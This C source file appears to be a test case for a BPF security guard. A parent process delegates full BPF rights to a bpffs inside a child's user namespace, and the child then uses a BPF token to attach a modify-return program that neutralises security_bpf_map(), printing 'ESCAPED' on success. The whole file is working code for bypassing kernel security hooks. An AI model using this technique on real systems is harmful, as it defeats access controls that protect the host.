// SPDX-License-Identifier: GPL-2.0
/*
 * by-token: in a user namespace with a BPF token for everything (Linux 6.9 and later), loads a program that modifies
 * the return value of security_bpf_map(), so that no guard of maps is called. Prints ESCAPED on success.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <bpf/btf.h>

#include "bpf_load.h"

/* From the kernel's uapi/linux/bpf.h since 6.9, as far as they are used. */
#define TOKEN_CREATE 36
#define F_TOKEN_FD   (1U << 16)

struct token_create {
	__u32 flags;
	__u32 bpffs_fd;
};

struct load_with_token {
	union {
		union bpf_attr attr;
		struct {
			char before[144];
			__s32 token;
		};
	};
};

static int configuration, tell_parent[2], tell_child[2];

static int fail(const char *step)
{
	printf("%s: %s\n", step, strerrorname_np(errno));
	return 1;
}

/* Delegating needs every capability outside of the user namespace. */
static int delegate(void)
{
	static const char *const rights[] = { "delegate_cmds", "delegate_maps", "delegate_progs",
					      "delegate_attachs" };

	for (size_t i = 0; i < sizeof(rights) / sizeof(*rights); i++)
		if (fsconfig(configuration, FSCONFIG_SET_STRING, rights[i], "any", 0))
			return fail(rights[i]);
	return fsconfig(configuration, FSCONFIG_CMD_CREATE, NULL, NULL, 0) ? fail("bpffs") : 0;
}

static int load(int token, uint32_t function)
{
	static const struct bpf_insn one[] = { SET(BPF_REG_0, 1), EXIT };
	struct load_with_token load;

	memset(&load, 0, sizeof(load));
	load.attr.prog_type = BPF_PROG_TYPE_TRACING;
	load.attr.expected_attach_type = BPF_MODIFY_RETURN;
	load.attr.attach_btf_id = function;
	load.attr.insns = (uintptr_t)one;
	load.attr.insn_cnt = 2;
	load.attr.license = (uintptr_t) "GPL";
	load.attr.prog_flags = F_TOKEN_FD;
	load.token = token;
	if (syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof(load)) < 0)
		return fail("load");
	puts("ESCAPED");
	return 0;
}

/* Runs in its own namespaces, and shares its descriptors with its parent. */
static int run_child(uint32_t function)
{
	struct token_create create = { 0 };
	char byte = 0;
	int mount, token;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return fail("unshare");
	configuration = fsopen("bpf", 0);
	if (configuration < 0)
		return fail("fsopen");
	if (write(tell_parent[1], &configuration, sizeof(configuration)) < 0 ||
	    read(tell_child[0], &byte, 1) != 1)
		return fail("the other one");
	mount = fsmount(configuration, 0, 0);
	if (mount < 0)
		return fail("fsmount");
	create.bpffs_fd = (__u32)openat(mount, ".", O_RDONLY | O_DIRECTORY);
	token = (int)syscall(SYS_bpf, TOKEN_CREATE, &create, sizeof(create));
	return token < 0 ? fail("token") : load(token, function);
}

int main(void)
{
	struct btf *kernel = btf__load_vmlinux_btf();
	int function = kernel ? btf__find_by_name_kind(kernel, "security_bpf_map", BTF_KIND_FUNC) :
				-1;
	pid_t pid;

	if (function < 0 || pipe(tell_parent) || pipe(tell_child))
		return fail("by-token");
	pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, 0);
	if (!pid) {
		int status = run_child((uint32_t)function);

		fflush(stdout);
		_exit(status);
	}
	if (read(tell_parent[0], &configuration, sizeof(configuration)) == sizeof(configuration) &&
	    (delegate() || write(tell_child[1], "", 1) < 0))
		kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return 0;
}
